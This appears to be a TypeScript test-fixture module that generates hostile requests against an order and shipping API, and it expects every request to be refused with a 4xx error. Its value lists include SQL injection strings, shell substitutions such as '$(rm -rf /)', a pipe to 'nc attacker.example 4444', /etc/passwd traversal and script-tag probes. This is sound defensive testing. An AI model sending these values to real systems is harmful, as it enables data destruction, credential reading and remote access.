// Hostile requests as data: the fixture files under fixtures/hostile/ and generated variations, per endpoint.

import { readdirSync, readFileSync } from 'node:fs'
import type { InjectOptions } from 'fastify'
import { API_BASIC } from './api.js'
import { OPS_BASIC, SS_BASIC } from './app.js'
import { makeOrder } from './orders.js'

export interface HostileCase {
  name: string
  request: InjectOptions
  /** Expected status; every hostile case is a 4xx. */
  status: number
  /** Expected error code (the XML `<Code>` or JSON `error.code`). */
  code: string
}

const HOSTILE = new URL('../../fixtures/hostile/', import.meta.url)

/** `fixtures/hostile/expected.json`: "dir/file" → [status, code]. Every fixture file must be listed. */
const EXPECTED = JSON.parse(readFileSync(new URL('expected.json', HOSTILE), 'utf8')) as Record<string, [number, string]>

export function fixtureFiles(dir: 'notices' | 'orders'): { file: string; bytes: Buffer }[] {
  return readdirSync(new URL(`${dir}/`, HOSTILE))
    .sort()
    .map((f) => ({ file: `${dir}/${f}`, bytes: readFileSync(new URL(`${dir}/${f}`, HOSTILE)) }))
}

function expected(file: string): [number, string] {
  const e = EXPECTED[file]
  if (!e) throw new Error(`fixtures/hostile/expected.json has no entry for ${file}`)
  return e
}

const SHIPNOTIFY = '/shipstation?action=shipnotify'
const CREATE = '/createorder.wws?action=CREATE'
const ss = { authorization: SS_BASIC }
const api = { authorization: API_BASIC }
const xml = { ...ss, 'content-type': 'text/xml; charset=utf-8' }
const json = { ...api, 'content-type': 'application/json' }

// ---------------------------------------------------------------------------------------------------------------
// Fixture files

export function noticeFileCases(): HostileCase[] {
  return fixtureFiles('notices').map(({ file, bytes }) => {
    const [status, code] = expected(file)
    return { name: file, request: { method: 'POST', url: SHIPNOTIFY, headers: xml, payload: bytes }, status, code }
  })
}

export function orderFileCases(): HostileCase[] {
  return fixtureFiles('orders').map(({ file, bytes }) => {
    const [status, code] = expected(file)
    return { name: file, request: { method: 'POST', url: CREATE, headers: json, payload: bytes }, status, code }
  })
}

// ---------------------------------------------------------------------------------------------------------------
// Generated: the export

const WINDOW = 'start_date=01%2F01%2F2000+00%3A00&end_date=12%2F31%2F2099+23%3A59'

/** Dates ShipStation would never send; each must be refused naming the parameter. */
const BAD_DATES = [
  '00/00/0000 00:00',
  '01/01/0000 00:00',
  '12/31/10000 23:59',
  '02/30/2024 10:00',
  '13/01/2024 10:00',
  '01/01/2024 24:00',
  '01/01/2024 23:60',
  '01/01/2024 13:00 PM',
  '-1/01/2024',
  '1e9',
  'NaN',
  'Infinity',
  'now',
  "01/01/2024' OR '1'='1",
  '01/01/2024; DROP TABLE orders;--',
  '$(reboot)',
  '`id`',
  '../../../etc/passwd',
  '%00',
  'x'.repeat(5000),
  '２０２４/01/01',
  '01/01/2024\u0000',
]

const BAD_PAGES = ['0', '-1', '1.5', '1e3', 'NaN', 'Infinity', '0x10', '99999999999', '1;DROP TABLE orders', '١']

export function exportCases(): HostileCase[] {
  const out: HostileCase[] = []
  const get = (name: string, query: string, status: number, code: string, method: 'GET' | 'POST' = 'GET') =>
    out.push({ name, request: { method, url: `/shipstation?${query}`, headers: ss }, status, code })
  for (const [i, d] of BAD_DATES.entries()) {
    const v = encodeURIComponent(d)
    get(
      `export start_date #${i} ${JSON.stringify(d.slice(0, 30))}`,
      `action=export&start_date=${v}&end_date=01/01/2030`,
      400,
      'BAD_DATE',
    )
    get(
      `export end_date #${i} ${JSON.stringify(d.slice(0, 30))}`,
      `action=export&start_date=01/01/2000&end_date=${v}`,
      400,
      'BAD_DATE',
      i % 2 ? 'POST' : 'GET',
    )
  }
  for (const p of BAD_PAGES)
    get(`export page ${JSON.stringify(p)}`, `action=export&${WINDOW}&page=${encodeURIComponent(p)}`, 400, 'BAD_PAGE')
  for (const param of ['action', 'start_date', 'end_date', 'page']) {
    const repeat = param === 'action' ? 'action=export&action=shipnotify' : `action=export&${param}=1&${param}=2`
    get(`export repeated ${param}`, `${repeat}&${WINDOW}`, 400, 'REPEATED_PARAMETER')
  }
  get('export missing start_date', 'action=export&end_date=01/01/2030', 400, 'MISSING_DATE')
  get('export missing end_date', 'action=export&start_date=01/01/2000', 400, 'MISSING_DATE')
  get('export empty dates', 'action=export&start_date=&end_date=', 400, 'MISSING_DATE')
  get('export start after end', 'action=export&start_date=01/02/2030&end_date=01/01/2030', 400, 'START_AFTER_END')
  get(
    'export year 9999 after year 2000',
    'action=export&start_date=12/31/9999 23:59&end_date=01/01/2000',
    400,
    'START_AFTER_END',
  )
  get('no action at all', WINDOW, 400, 'MISSING_ACTION')
  get('no query string', '', 400, 'MISSING_ACTION')
  for (const a of [
    "export' OR 1=1--",
    'EXPORT%00',
    'delete',
    'export;reboot',
    '__proto__',
    'x'.repeat(3000),
    '%zz',
    '%ED%A0%80',
  ]) {
    get(
      `unknown action ${JSON.stringify(a.slice(0, 20))}`,
      `action=${a.includes('%') ? a : encodeURIComponent(a)}&${WINDOW}`,
      400,
      'UNKNOWN_ACTION',
    )
  }
  get('export by POST with a form body naming the action', '', 400, 'MISSING_ACTION', 'POST')
  return out
}

// ---------------------------------------------------------------------------------------------------------------
// Generated: shipnotify

const NOTICE = (inner: string) => `<?xml version="1.0" encoding="utf-8"?><ShipNotice>${inner}</ShipNotice>`

export function shipnotifyCases(): HostileCase[] {
  const out: HostileCase[] = []
  const post = (name: string, query: string, payload: string | Buffer, status: number, code: string, headers = xml) =>
    out.push({ name, request: { method: 'POST', url: `${SHIPNOTIFY}${query}`, headers, payload }, status, code })
  const unknown = NOTICE('<TrackingNumber>1Z999</TrackingNumber>')
  // Order numbers no order has: kept as unmatched (journal only) and answered 404 naming the number.
  for (const n of [
    "T1' OR '1'='1",
    'T1"; DROP TABLE shipments; --',
    '1 UNION SELECT password FROM credentials',
    '$(rm -rf /)',
    '`reboot`',
    'T1 | nc attacker.example 4444',
    '../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    'C:\\Windows\\system32',
    '/dev/null',
    'T1\u0000',
    '%',
    '__proto__',
    'constructor',
    'N'.repeat(2000),
    '🚚'.repeat(100),
    'T 1',
  ]) {
    post(
      `shipnotify order_number ${JSON.stringify(n.slice(0, 24))}`,
      `&order_number=${encodeURIComponent(n)}`,
      unknown,
      404,
      'ORDER_NOT_FOUND',
    )
  }
  post(
    'shipnotify OrderNumber with SQL only in the body',
    '',
    NOTICE("<OrderNumber>x' OR 1=1 --</OrderNumber>"),
    404,
    'ORDER_NOT_FOUND',
  )
  post('shipnotify OrderID 1e9', '', NOTICE('<OrderID>1000000000</OrderID>'), 404, 'ORDER_NOT_FOUND')
  post('shipnotify OrderID -1', '', NOTICE('<OrderID>-1</OrderID>'), 404, 'ORDER_NOT_FOUND')
  post('shipnotify OrderID 9'.repeat(1), '', NOTICE(`<OrderID>${'9'.repeat(400)}</OrderID>`), 404, 'ORDER_NOT_FOUND')
  post('shipnotify OrderID with SQL', '', NOTICE('<OrderID>1 OR 1=1</OrderID>'), 404, 'ORDER_NOT_FOUND')
  // Bodies that are not a ShipNotice, under every content type seen in the wild (and some never seen).
  const bad = '<ShipNotice><OrderNumber>T1</OrderNumber>'
  for (const type of [
    'text/xml',
    'application/xml',
    'application/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'text/html',
    'application/octet-stream',
    'text/xml; charset=utf-16',
    'text/xml; charset=../../etc/passwd',
    'nonsense',
    '',
  ]) {
    post(`shipnotify malformed body as ${JSON.stringify(type)}`, '', bad, 400, 'MALFORMED_XML', {
      ...ss,
      'content-type': type,
    })
  }
  post('shipnotify empty body', '&order_number=T1', '', 400, 'EMPTY_BODY')
  post('shipnotify deep nesting', '', NOTICE(`${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}`), 400, 'MALFORMED_XML')
  post(
    'shipnotify deep Items nesting',
    '',
    NOTICE(`<OrderNumber>T1</OrderNumber><Items>${'<Item>'.repeat(5000)}${'</Item>'.repeat(5000)}</Items>`),
    400,
    'MALFORMED_XML',
  )
  post(
    'shipnotify a million empty elements',
    '&order_number=NO-SUCH',
    NOTICE('<x/>'.repeat(250_000)),
    404,
    'ORDER_NOT_FOUND',
  )
  post('shipnotify 1 MiB + 1 byte', '&order_number=T1', Buffer.alloc(1024 * 1024 + 1, 0x20), 413, 'BODY_TOO_LARGE')
  post(
    'shipnotify over the transport limit',
    '&order_number=T1',
    Buffer.alloc(2 * 1024 * 1024 + 1, 0x41),
    413,
    'FST_ERR_CTP_BODY_TOO_LARGE',
  )
  post('shipnotify with a repeated action', '&action=export', unknown, 400, 'REPEATED_PARAMETER')
  return out
}

// ---------------------------------------------------------------------------------------------------------------
// Generated: createorder

const DELETE = Symbol('delete')
const LINE = makeOrder(0).items as Record<string, unknown>[]

/** Field path → bad value, each set on an otherwise valid order `T900` (so one accepted by mistake shows as 201). */
const ORDER_MUTATIONS: [string, string, unknown][] = [
  ['quantity 1e9', 'items.0.quantity', 1e9],
  ['quantity 0', 'items.0.quantity', 0],
  ['quantity -1', 'items.0.quantity', -1],
  ['quantity 100000', 'items.0.quantity', 100_000],
  ['quantity "1e9"', 'items.0.quantity', '1e9'],
  ['quantity "NaN"', 'items.0.quantity', 'NaN'],
  ['quantity "Infinity"', 'items.0.quantity', 'Infinity'],
  ['quantity [] ', 'items.0.quantity', []],
  ['quantity {}', 'items.0.quantity', {}],
  ['quantity null', 'items.0.quantity', null],
  ['quantity "1; DROP TABLE order_lines"', 'items.0.quantity', '1; DROP TABLE order_lines'],
  ['unitPrice -0.01', 'items.0.unitPrice', -0.01],
  ['unitPrice "NaN"', 'items.0.unitPrice', 'NaN'],
  ['unitPrice 1e10', 'items.0.unitPrice', 1e10],
  ['unitPrice "12,50"', 'items.0.unitPrice', '12,50'],
  ['unitPrice missing', 'items.0.unitPrice', DELETE],
  ['taxAmount -5', 'taxAmount', -5],
  ['shippingAmount "free"', 'shippingAmount', 'free'],
  ['orderTotal 1e308', 'orderTotal', 1e308],
  ['amountPaid -1', 'amountPaid', -1],
  ['orderDate year 0', 'orderDate', '0000-12-31T00:00:00'],
  ['orderDate year 10000', 'orderDate', '10000-01-01T00:00:00'],
  ['orderDate year 10000 in UTC (9999-12-31 with an offset)', 'orderDate', '9999-12-31T23:30:00-05:00'],
  ['orderDate year 0 in UTC (0001-01-01 with an offset)', 'orderDate', '0001-01-01T00:30:00+01:00'],
  ['orderDate 1e12 (a number)', 'orderDate', 1e12],
  ['orderDate "yesterday"', 'orderDate', 'yesterday'],
  ['orderDate SQL', 'orderDate', "2024-01-01' OR '1'='1"],
  ['paymentDate 2024-13-01', 'paymentDate', '2024-13-01'],
  ['shipByDate 25:00', 'shipByDate', '2024-01-01T25:00:00'],
  ['orderNumber 51 characters', 'orderNumber', 'N'.repeat(51)],
  ['orderNumber 100 000 characters', 'orderNumber', 'N'.repeat(100_000)],
  ['orderNumber empty', 'orderNumber', ''],
  ['orderNumber whitespace', 'orderNumber', '   '],
  ['orderNumber an object', 'orderNumber', { $gt: '' }],
  ['orderNumber an array', 'orderNumber', ['H900', 'T1']],
  ['orderNumber true', 'orderNumber', true],
  ['orderKey 101 characters', 'orderKey', 'k'.repeat(101)],
  ['sku 101 characters', 'items.0.sku', 'S'.repeat(101)],
  ['sku 50 000 characters', 'items.0.sku', 'S'.repeat(50_000)],
  ['sku missing', 'items.0.sku', DELETE],
  ['name 201 characters', 'items.0.name', 'n'.repeat(201)],
  ['lineItemKey 51 characters', 'items.0.lineItemKey', 'L'.repeat(51)],
  ['weight -1', 'items.0.weight', { value: -1, units: 'pounds' }],
  ['weight unit "stone"', 'items.0.weight', { value: 1, units: 'stone' }],
  ['weight 1e9', 'items.0.weight', { value: 1e9, units: 'grams' }],
  ['option without name', 'items.0.options', [{ value: 'x' }]],
  ['options an object', 'items.0.options', { name: 'a', value: 'b' }],
  ['1001 lines', 'items', Array.from({ length: 1001 }, (_, i) => ({ ...LINE[0], lineItemKey: `L${i}` }))],
  ['an item that is a string', 'items', ['SKU-1']],
  ['an item that is null', 'items', [null]],
  ['items null', 'items', null],
  ['shipTo a string', 'shipTo', '1 Main St'],
  ['shipTo without street1', 'shipTo.street1', DELETE],
  ['shipTo US without state', 'shipTo.state', DELETE],
  ['country "USA"', 'shipTo.country', 'USA'],
  ['country SQL', 'shipTo.country', "US' --"],
  ['country with a NUL', 'shipTo.country', 'U\u0000'],
  ['currencyCode "dollars"', 'currencyCode', 'dollars'],
  ['currencyCode "$(id)"', 'currencyCode', '$()'],
  ['orderStatus unknown word', 'orderStatus', 'shipped_and_paid'],
  ['orderStatus SQL', 'orderStatus', "P' OR 1=1 --"],
  ['sophioStatus shell', 'sophioStatus', '`reboot`'],
  ['gift "maybe"', 'gift', 'maybe'],
  ['advancedOptions a string', 'AdvancedOptions', 'warehouse 1'],
  ['customField1 101 characters', 'AdvancedOptions', { customField1: 'c'.repeat(101) }],
]

/** A deep copy of `o` with the value at `a.b.0.c` replaced (or deleted). */
function setPath(o: Record<string, unknown>, path: string, value: unknown): Record<string, unknown> {
  const copy = structuredClone(o)
  const keys = path.split('.')
  const last = keys.pop() as string
  let at: any = copy
  for (const k of keys) at = at[k]
  if (value === DELETE) delete at[last]
  else at[last] = value
  return copy
}

export function createOrderCases(): HostileCase[] {
  const out: HostileCase[] = ORDER_MUTATIONS.map(([name, path, value]) => {
    const body = setPath(makeOrder(900), path, value)
    return {
      name: `createorder ${name}`,
      request: { method: 'POST', url: CREATE, headers: json, payload: JSON.stringify(body) },
      status: 400,
      code: 'INVALID_ORDER',
    }
  })
  const raw = (name: string, payload: string | Buffer, code: string, headers: Record<string, string> = json) =>
    out.push({
      name: `createorder ${name}`,
      request: { method: 'POST', url: CREATE, headers, payload },
      status: 400,
      code,
    })
  const good = JSON.stringify(makeOrder(901))
  raw('lone high surrogate in a SKU', good.replace('"sku":"', '"sku":"\\ud800'), 'BAD_TEXT')
  raw('lone low surrogate in notes', good.replace('{', '{"internalNotes":"\\udfff",'), 'BAD_TEXT')
  raw('reversed surrogate pair', good.replace('{', '{"giftMessage":"\\ude00\\ud83d",'), 'BAD_TEXT')
  raw('"__proto__" inside an item', good.replace('"sku":', '"__proto__":{"x":1},"sku":'), 'FORBIDDEN_KEY')
  raw('"constructor.prototype" at the top', good.replace('{', '{"constructor":{"prototype":{"x":1}},'), 'FORBIDDEN_KEY')
  raw(
    'invalid UTF-8 (a lone continuation byte)',
    Buffer.concat([Buffer.from(good.slice(0, 30)), Buffer.from([0x80]), Buffer.from(good.slice(30))]),
    'BAD_ENCODING',
  )
  raw(
    'invalid UTF-8 (CESU surrogate bytes)',
    Buffer.concat([Buffer.from(good.slice(0, 30)), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(good.slice(30))]),
    'BAD_ENCODING',
  )
  raw('nested 100 000 arrays deep', `{"tagIds":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, 'TOO_DEEP')
  raw('an empty body', '', 'EMPTY_BODY')
  raw('a body of whitespace', ' \n ', 'MALFORMED_JSON')
  for (const [type, payload] of [
    ['text/plain', '{"orderNumber": "H902", '],
    ['application/x-www-form-urlencoded', 'orderNumber=H903&items=1'],
    ['text/xml', '<Order><OrderNumber>H904</OrderNumber></Order>'],
    ['multipart/form-data; boundary=b', '--b\r\nContent-Disposition: form-data; name="order"\r\n\r\n{}\r\n--b--'],
    ['application/json; charset=utf-16', '{"orderNumber": "H905"'],
  ] as const) {
    raw(`malformed body sent as ${type}`, payload, 'MALFORMED_JSON', { ...api, 'content-type': type })
  }
  out.push({
    name: 'createorder body over 1 MiB',
    request: { method: 'POST', url: CREATE, headers: json, payload: `{"x":"${'x'.repeat(1024 * 1024)}"}` },
    status: 413,
    code: 'FST_ERR_CTP_BODY_TOO_LARGE',
  })
  for (const [name, query] of [
    ['action=DELETE', '?action=DELETE'],
    ['no action', ''],
    ['action repeated', '?action=CREATE&action=DELETE'],
    ['action with SQL', "?action=CREATE' OR 1=1"],
  ] as const) {
    out.push({
      name: `createorder ${name}`,
      request: { method: 'POST', url: `/createorder.wws${query}`, headers: json, payload: good },
      status: 400,
      code: 'UNSUPPORTED_ACTION',
    })
  }
  return out
}

// ---------------------------------------------------------------------------------------------------------------
// Generated: the order API

export function orderApiCases(): HostileCase[] {
  const out: HostileCase[] = []
  const get = (name: string, path: string, status: number, code: string) =>
    out.push({
      name: `GET ${name}`,
      request: { method: 'GET', url: `/api/orders/${path}`, headers: api },
      status,
      code,
    })
  for (const n of [
    "T1' OR '1'='1",
    'T1"; DROP TABLE orders; --',
    '%',
    '_',
    'T%',
    '$(reboot)',
    '`id`',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'T1\u0000',
    '../../etc/passwd',
    '..\\..\\windows',
    'T 1',
    '🚚',
  ]) {
    get(`unknown number ${JSON.stringify(n)}`, encodeURIComponent(n), 404, 'ORDER_NOT_FOUND')
  }
  get('"..", which the router resolves', '..', 404, 'NOT_FOUND')
  get('51 characters', 'N'.repeat(51), 400, 'FST_ERR_VALIDATION')
  get('101 characters', 'N'.repeat(101), 414, 'PATH_TOO_LONG')
  get('bad percent-encoding', '%zz', 400, 'BAD_URL')
  get('percent-encoded lone surrogate', '%ED%A0%80', 400, 'BAD_URL')
  get('overlong UTF-8 slash', '%C0%AF', 400, 'BAD_URL')
  get('truncated percent-encoding', 'T1%E2%82', 400, 'BAD_URL')
  const put = (name: string, path: string, payload: string | Buffer, status: number, code: string, headers = json) =>
    out.push({
      name: `PUT status ${name}`,
      request: { method: 'PUT', url: `/api/orders/${path}/status`, headers, payload },
      status,
      code,
    })
  put('truncated JSON', 'T1', '{"code": "9"', 400, 'MALFORMED_JSON')
  put('JSON with a comment', 'T1', '{"code": "9" /* cancel */}', 400, 'MALFORMED_JSON')
  put('code missing', 'T1', '{}', 400, 'FST_ERR_VALIDATION')
  put('code empty', 'T1', '{"code": ""}', 400, 'FST_ERR_VALIDATION')
  put('code 11 characters', 'T1', '{"code": "ABCDEFGHIJK"}', 400, 'FST_ERR_VALIDATION')
  put('unknown code', 'T1', '{"code": "Z"}', 400, 'UNKNOWN_STATUS_CODE')
  put('code with SQL', 'T1', `{"code": "9' --"}`, 400, 'UNKNOWN_STATUS_CODE')
  put('code 1e9', 'T1', '{"code": 1e9}', 400, 'UNKNOWN_STATUS_CODE')
  put('code an object', 'T1', '{"code": {"$ne": null}}', 400, 'FST_ERR_VALIDATION')
  put('code an array', 'T1', '{"code": ["9", "S"]}', 400, 'FST_ERR_VALIDATION')
  put('an extra field', 'T1', '{"code": "9", "orderId": 2}', 400, 'FST_ERR_VALIDATION')
  put('reason 201 characters', 'T1', JSON.stringify({ code: '9', reason: 'r'.repeat(201) }), 400, 'FST_ERR_VALIDATION')
  put('"__proto__"', 'T1', '{"code": "9", "__proto__": {"admin": true}}', 400, 'FORBIDDEN_KEY')
  put(
    '"constructor.prototype"',
    'T1',
    '{"code": "9", "constructor": {"prototype": {"admin": true}}}',
    400,
    'FORBIDDEN_KEY',
  )
  put('lone surrogate in the reason', 'T1', '{"code": "9", "reason": "\\ud800"}', 400, 'BAD_TEXT')
  put('invalid UTF-8', 'T1', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x7d]), 400, 'BAD_ENCODING')
  put('a JSON array', 'T1', '["9"]', 400, 'FST_ERR_VALIDATION')
  put('a JSON string', 'T1', '"9"', 400, 'FST_ERR_VALIDATION')
  put('null', 'T1', 'null', 400, 'FST_ERR_VALIDATION')
  put('form-encoded', 'T1', 'code=9', 400, 'MALFORMED_JSON', {
    ...api,
    'content-type': 'application/x-www-form-urlencoded',
  })
  put('XML', 'T1', '<code>9</code>', 400, 'MALFORMED_JSON', { ...api, 'content-type': 'text/xml' })
  put('an empty body', 'T1', '', 400, 'EMPTY_BODY')
  put('deep nesting', 'T1', `{"code":"9","reason":${'['.repeat(10_000)}${']'.repeat(10_000)}}`, 400, 'TOO_DEEP')
  put('on an unknown order', encodeURIComponent("T1' OR 1=1"), '{"code": "9"}', 404, 'ORDER_NOT_FOUND')
  put('on a path-traversal number', encodeURIComponent('../T1'), '{"code": "9"}', 404, 'ORDER_NOT_FOUND')
  put('on a 51-character number', 'N'.repeat(51), '{"code": "9"}', 400, 'FST_ERR_VALIDATION')
  put('on a bad percent-encoding', '%E0%A4%A', '{"code": "9"}', 400, 'BAD_URL')
  return out
}

// ---------------------------------------------------------------------------------------------------------------
// Generated: /ops (operator credentials). Its pages answer errors as HTML pages, its /ops/api/… as JSON.

export function opsCases(): HostileCase[] {
  const out: HostileCase[] = []
  const ops = { authorization: OPS_BASIC }
  const get = (name: string, url: string, status: number, code: string) =>
    out.push({ name: `ops ${name}`, request: { method: 'GET', url, headers: ops }, status, code })
  for (const [q, code] of [
    ['limit=0', 'BAD_FILTER'],
    ['limit=-1', 'BAD_FILTER'],
    ['limit=1e9', 'BAD_FILTER'],
    ['limit=NaN', 'BAD_FILTER'],
    ['limit=99999', 'BAD_FILTER'],
    ['since=0000-01-01', 'BAD_FILTER'],
    ['since=9999999999d', 'BAD_FILTER'],
    ['since=$(date)', 'BAD_FILTER'],
    ['status=__proto__', 'BAD_FILTER'],
    [`status=${encodeURIComponent("shipped' OR 1=1 --")}`, 'BAD_FILTER'],
    ['code=,,,', 'BAD_FILTER'],
  ] as const) {
    get(`orders ?${q}`, `/ops/api/orders?${q}`, 400, code)
  }
  for (const q of ['outcome=DROP', 'outcome=__proto__', 'limit=abc', 'limit=0', 'limit=1001']) {
    get(`notices ?${q}`, `/ops/api/notices?${q}`, 400, 'BAD_FILTER')
  }
  get('shipments ?limit=-5', '/ops/api/shipments?limit=-5', 400, 'BAD_FILTER')
  for (const n of ["T1' OR '1'='1", '../../etc/passwd', '__proto__', '<script>alert(1)</script>', 'N'.repeat(99)]) {
    get(`order ${JSON.stringify(n.slice(0, 20))}`, `/ops/api/orders/${encodeURIComponent(n)}`, 404, 'ORDER_NOT_FOUND')
  }
  get('order, bad percent-encoding', '/ops/api/orders/%E0%A4%A', 400, 'BAD_URL')
  get('page ?order= 101 characters', `/ops?order=${'o'.repeat(101)}`, 400, 'FST_ERR_VALIDATION')
  get(
    'page ?reapplied=<script>',
    `/ops?reapplied=${encodeURIComponent('<script>x</script>')}`,
    400,
    'FST_ERR_VALIDATION',
  )
  get('page ?r=2', '/ops?r=2', 400, 'FST_ERR_VALIDATION')
  get('unknown page', '/ops/no-such-page?x=<script>', 404, 'NOT_FOUND')
  const post = (name: string, url: string, payload: string, status: number, code: string, extra = {}) =>
    out.push({
      name: `ops ${name}`,
      request: {
        method: 'POST',
        url,
        headers: { ...ops, 'content-type': 'application/x-www-form-urlencoded', ...extra },
        payload,
      },
      status,
      code,
    })
  post('re-apply without a form token', '/ops/notices/1/reapply', '', 403, 'CSRF_TOKEN')
  post(
    're-apply with a forged token',
    '/ops/notices/1/reapply',
    `csrf=${Date.now() + 1000}.${'A'.repeat(43)}`,
    403,
    'CSRF_TOKEN',
  )
  post('re-apply from another site', '/ops/notices/1/reapply', 'csrf=x', 403, 'CROSS_SITE', {
    origin: 'https://evil.example',
  })
  post('re-apply notice "abc"', '/ops/notices/abc/reapply', 'csrf=x', 400, 'FST_ERR_VALIDATION')
  post('re-apply notice 1e99', `/ops/notices/${'9'.repeat(16)}/reapply`, 'csrf=x', 400, 'FST_ERR_VALIDATION')
  post(
    're-apply with a 5 kB form',
    '/ops/notices/1/reapply',
    `csrf=${'x'.repeat(5000)}`,
    413,
    'FST_ERR_CTP_BODY_TOO_LARGE',
  )
  return out
}
